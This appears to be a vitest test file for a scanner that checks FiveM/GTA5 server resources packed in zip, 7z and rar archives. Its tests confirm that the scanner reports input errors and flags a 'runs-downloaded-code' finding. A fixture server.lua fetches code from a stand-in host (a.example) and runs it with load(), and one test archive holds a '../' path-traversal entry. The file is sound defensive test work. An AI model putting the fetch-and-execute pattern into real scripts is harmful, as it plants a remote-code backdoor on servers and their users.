import { mkdir, writeFile } from 'node:fs/promises'

import { expect, test } from 'vitest'

import { rar5Of } from '#test-support/archives/rar.ts'
import { sevenZipOf } from '#test-support/archives/seven-zip.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { createGameServer } from '#test-support/game-server.ts'

const members = [
  {
    name: 'pier/fxmanifest.lua',
    content: "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\n",
  },
  {
    name: 'pier/server.lua',
    content: "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n",
  },
]

test.each<[string, Buffer | string, RegExp]>([
  ['a file that is no archive', 'text.txt', /neither a folder nor an archive/],
  ['a file that is missing', 'missing.zip', /does not exist/],
  ['a folder without files', 'empty', /contains no file\. Name another folder or an archive/],
  ['a damaged archive', zipOf(members).subarray(0, 300), /cannot be read/],
  ['an encrypted archive', zipOf([{ name: 'a.lua', content: 'x', encrypted: true }]), /cannot be read/],
  ['an archive with a path that leads out', zipOf([{ name: '../a.lua', content: 'x' }]), /cannot be read/],
])('%s is an error with its reason', async (_, content, message) => {
  const server = await createGameServer()
  await server.write('text.txt', 'x')
  await mkdir(server.path('empty'))
  if (Buffer.isBuffer(content)) await writeFile(server.path('archive.zip'), content)

  const { code, stderr } = await server.run('scan', typeof content === 'string' ? content : 'archive.zip')

  expect(stderr).toMatch(message)
  expect(code).toBe(2)
})

test.each<[string, Buffer]>([
  ['zip', zipOf(members)],
  ['7z', sevenZipOf(members)],
  ['rar', rar5Of(members)],
])('a .%s is analysed as text, JSON and SARIF without a hub', async (extension, content) => {
  const server = await createGameServer()
  const name = `pier.${extension}`
  await writeFile(server.path(name), content)

  const text = await server.run('scan', name, '--fail-on', 'high')
  const json = JSON.parse((await server.run('scan', name, '--json')).stdout)
  const sarif = JSON.parse((await server.run('scan', name, '--sarif')).stdout)

  expect(text).toMatchObject({ code: 1, stdout: expect.stringContaining('[runs-downloaded-code]') })
  expect(json.counts.high).toBeGreaterThan(0)
  expect(sarif).toMatchObject({ version: '2.1.0' })
  expect(sarif.runs[0].results.map(({ ruleId }: { ruleId: string }) => ruleId)).toContain(
    'runs-downloaded-code',
  )
})
